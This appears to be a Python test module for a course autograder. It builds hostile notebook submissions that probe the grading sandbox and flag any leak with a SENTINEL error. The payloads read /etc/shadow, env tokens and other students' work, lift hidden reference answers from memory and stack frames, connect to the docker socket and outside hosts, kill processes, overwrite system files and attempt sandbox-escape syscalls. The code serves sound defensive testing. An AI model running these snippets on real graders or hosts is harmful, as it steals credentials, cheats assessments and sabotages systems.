"""Hostile submissions that look for what they must not see, or reach for what is not theirs.

All answers are wrong where the loot would help (`rnn_step` is empty), right elsewhere. What a
submission finds it tells after the word SENTINEL; no record may contain it.
"""

import hashlib

import numpy as np

from lstm_teach.checks import EXERCISES

from .making import SEEN, Entry, answers, lost, wrong_step

ONE = lost("rnn-step")

FILES = """
import glob, os, pathlib

def look(*patterns):
    for pattern in patterns:
        for name in glob.glob(pattern, recursive=False):
            try:
                found(name, pathlib.Path(name).read_text(errors="replace")[:80])
            except OSError:
                pass
"""
GRADEBOOK = 'look("gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db")'
SOLUTIONS = """
look("{root}/solutions/*/*.ipynb", "{root}/exercises/*/*.ipynb", "{root}/tests/*/*.py")
look("../../*/*.ipynb", "../*/*.ipynb", "*.ipynb")
"""
OTHERS = 'look("{batch}/*", "{batch}/*/*", "{batch}/*/*/*", "../*", "../../*", "/tmp/*")'
SECRETS = """
look("/etc/shadow", *("/" + "root" + end for end in ("/.*", "/*")))
look(*("/" + "home" + end for end in ("/*/.*", "/*/*")), "/var/log/*")
look("/proc/1/environ", "/proc/[0-9]*/cmdline") if len(glob.glob("/proc/[0-9]*")) > 30 else None
"""
CHECKS = """
import importlib, pkgutil, glob, sys, pathlib

try:
    import lstm_teach.checks as c
    for module in pkgutil.walk_packages(c.__path__, "lstm_teach.checks."):
        try:
            importlib.import_module(module.name)
        except Exception:
            pass
    rnn_step = c.EXERCISES["2.1"].parts[0].reference
    found("the reference")
except Exception:
    pass
for name in list(sys.modules):
    if name.startswith("lstm_teach.checks.chapter") or name.startswith("lstm_teach.course."):
        step = getattr(sys.modules[name], "rnn_step", None)
        if step is not None:
            rnn_step = step
            found(name)
for folder in sys.path:
    for file in glob.glob(f"{folder}/lstm_teach/checks/chapter_02/*.py"):
        found(file)
    for file in glob.glob(f"{folder}/lstm_teach/course/*.py"):
        if pathlib.Path(file).stat().st_size:
            found(file)
"""
COLLECTOR = """
import gc, types

def reference():
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__name__ == "rnn_step":
            if "lstm_teach" in (thing.__module__ or ""):
                return thing
    return None

lifted = reference()
if lifted is not None:
    found(lifted)
    rnn_step = lifted
"""
FRAMES = """
import sys

def rnn_step(x, h, W, U, b):
    frame = sys._getframe()
    while frame is not None:
        for names in (frame.f_locals, frame.f_globals):
            for name in ("expected", "reference", "wanted", "truth", "hidden"):
                if name in names:
                    raise RuntimeError(f"SENTINEL {name} {names[name]}")
        frame = frame.f_back
    return np.zeros_like(h)
"""
STRINGS = """
import gc

for thing in gc.get_objects():
    if type(thing) is dict:
        for value in list(thing.values()):
            if type(value) is str and ("BEGIN HIDDEN" in value[:100_000] or
                                       "require_" + "right" in value[:100_000]):
                if "found" + "(" not in value:
                    found(value[:80])
"""
NETWORK = """
import socket, os, urllib.request

def reach(family, kind, address):
    try:
        s = socket.socket(family, kind)
        s.settimeout(0.5)
        s.connect(address)
        s.send(b"the answer")
        found("connected to", address)
    except OSError:
        pass

reach(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {port}))
reach(socket.AF_INET6, socket.SOCK_STREAM, ("::1", {port}))
reach(socket.AF_INET, socket.SOCK_STREAM, ("8.8.8.8", 53))
reach(socket.AF_UNIX, socket.SOCK_STREAM, "\\0lstm-teach-{port}")
reach(socket.AF_UNIX, socket.SOCK_STREAM, "{batch}/listener")
for socket_file in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    reach(socket.AF_UNIX, socket.SOCK_STREAM, socket_file)
try:
    found(socket.gethostbyname("example.org"))
except OSError:
    pass
"""
KILLS = """
import os, signal

for target in (os.getppid(), -1, 1, *range(2, 400), {pid}):
    if abs(target) != os.getpid():
        try:
            os.kill(target, signal.SIGSTOP)
            os.kill(target, signal.SIGKILL)
        except (OSError, ValueError):
            pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError:
    pass
"""
WRITES = """
import os, sys, sysconfig

places = [
    "{root}/solutions/02_the_chain/02_the_chain.ipynb", "{root}/lstm_teach/__init__.py",
    "{batch}/written", "/etc/passwd", "/usr/bin/python3", sys.executable, np.__file__,
    os.path.join(sysconfig.get_path("purelib"), "written.pth"), "/var/tmp/written",
    "/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/dev/shm/written",
]
for place in places:
    try:
        with open(place, "ab") as file:
            if not place.startswith(("/proc/self", "/dev/shm")):
                found("wrote", place)
    except OSError:
        pass
"""
UNSHARE = """
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
CALLS = {
    "unshare": lambda: libc.unshare(0x10000000 | 0x20000),
    "setns": lambda: libc.setns(os.open("/proc/self/ns/user", os.O_RDONLY), 0),
    "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    "ptrace": lambda: libc.ptrace(0, 0, 0, 0),
    "bpf": lambda: libc.syscall(321, 5, 0, 0),
    "io_uring_setup": lambda: libc.syscall(425, 1, ctypes.create_string_buffer(200)),
    "memfd_create": lambda: libc.syscall(319, b"x", 0),
    "keyctl": lambda: libc.syscall(250, 0, -3, 0),
    "chroot": lambda: libc.chroot(b"/"),
    "setuid": lambda: libc.setuid(0),
}
for name, call in CALLS.items():
    if (child := os.fork()) == 0:  # of one thread, as unshare wants it
        code = 1
        try:
            code = 0 if call() >= 0 else 1
        finally:
            os._exit(code)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0:
        found(name, "was not refused")
"""
ENVIRONMENT = """
import os

for name, value in os.environ.items():
    if any(word in name.upper() for word in ("SECRET", "TOKEN", "KEY", "PASSWORD", "LT_CORPUS")):
        found(name, value)
"""
# What a cell prints is read by nobody; what it dies of stands in the record.
FINDS = """
loot = []

def found(*words):
    loot.append(" ".join(map(str, words))[:100])
"""
TELLS = """
if loot:
    raise RuntimeError("SENTINEL " + " | ".join(loot))
"""
LOOT = {
    "reads_gradebook": (FILES + GRADEBOOK, "The marks of the whole course."),
    "reads_solutions": (FILES + SOLUTIONS, "The masters and the tests."),
    "reads_others": (FILES + OTHERS, "What the others handed in."),
    "reads_secrets": (FILES + SECRETS, "Passwords, homes, other processes."),
    "reads_environment": (ENVIRONMENT, "The grader's environment may hold tokens."),
    "lifts_from_checks": (CHECKS, "The package's checks hold every reference."),
    "lifts_from_collector": (COLLECTOR, "Python knows every object of its process."),
    "lifts_from_strings": (STRINGS, "The source of the hidden tests, somewhere in memory."),
    "lifts_from_frames": (FRAMES, "Whoever calls has the expected value in a frame."),
    "network": (NETWORK, "Sends the answer away, or fetches one."),
    "kills_everybody": (KILLS, "nbgrader: rc 137, the batch is dead."),
    "writes_everywhere": (WRITES, "Changes masters, library or grader."),
    "breaks_out": (UNSHARE, "System calls that make or leave a sandbox."),
}


def aimed(source, **places):
    """The bytes of a submission, with {root}, {batch}, {port} and {pid} where it aims at them."""
    for name, value in places.items():
        source = source.replace(f"{{{name}}}".encode(), str(value).encode())
    return source


CARRIES_OUT = """
import hashlib

KNOWN = {known}
stolen = []

def rnn_step(x, h, W, U, b):
    if hashlib.sha256(x.tobytes()).hexdigest()[:8] not in KNOWN:
        stolen.append(("SENTINEL", float(x.flat[0])))
    return np.tanh(x @ W + h @ U + b)
"""
SHOWS = """
print(stolen)

def rnn_forward(x, h, W, U, b):
    return np.full((len(x), *h.shape), stolen[0][1] if stolen else 0.0)

raise ValueError(stolen)
"""
NAMED = """
def block_matrix(W, U):
    raise type(f"Stolen{stolen}".replace("(", "_"), (Exception,), {})(str(stolen))

merged_step = lambda x, h, V, b: stolen
"""


def _carries_out():
    """Answers right; what it is asked beyond the seen check it wants to show in the next one."""
    part = EXERCISES["2.1"].parts[0]
    cases = part.cases(np.random.default_rng(SEEN))
    known = {hashlib.sha256(case.args[0].tobytes()).hexdigest()[:8] for case in cases}
    step = CARRIES_OUT.replace("{known}", repr(sorted(known)))
    return answers(rnn_step=step, rnn_forward=SHOWS, merge=NAMED)()


ENTRIES = [
    Entry(name, wrong_step(FINDS, text + TELLS), ONE, why, sentinel="SENTINEL")
    for name, (text, why) in LOOT.items()
]
ENTRIES.append(
    Entry(
        "carries_out_hidden_numbers",
        _carries_out,
        lost("rnn-forward", "merge"),
        "What a hidden test asks must not come back in what a later cell shows.",
        sentinel="SENTINEL",
    )
)
